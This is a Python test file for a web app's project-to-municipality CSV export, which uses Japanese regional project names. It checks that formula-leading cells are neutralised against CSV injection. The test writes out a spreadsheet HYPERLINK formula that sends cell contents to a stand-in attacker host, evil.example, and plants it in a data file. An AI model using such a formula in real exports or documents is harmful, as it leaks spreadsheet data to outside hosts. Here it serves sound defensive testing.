"""The project ↔ municipality CSV cannot smuggle a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import shutil

from conftest import ROOT, boundaries_path

NAME = "新幹線開業を活かした交流人口拡大プロジェクト"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_cells_starting_with_formula_characters_are_text(tmp_path):
    from app import create_app

    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    projects = data / "editions" / "h28" / "projects" / "donan.yaml"
    text = projects.read_text(encoding="utf-8")
    assert f"name: {NAME}\n" in text
    hostile = FORMULA + NAME
    projects.write_text(text.replace(f"name: {NAME}\n", f"name: '{hostile}'\n", 1), encoding="utf-8")

    app = create_app({"TESTING": True, "BOUNDARIES": str(boundaries_path()), "DATA_DIR": str(data)})
    resp = app.test_client().get("/overlap/coverage.csv")
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    names = {r["project_name"] for r in rows}
    assert "'" + hostile in names  # neutralised, and still readable
    assert not any(n[:1] in "=+-@" for n in names)
    # Ordinary names pass through untouched: 函館 projects of the real data.
    assert "未来へ続くたくましい農林水産業づくりプロジェクト" in names
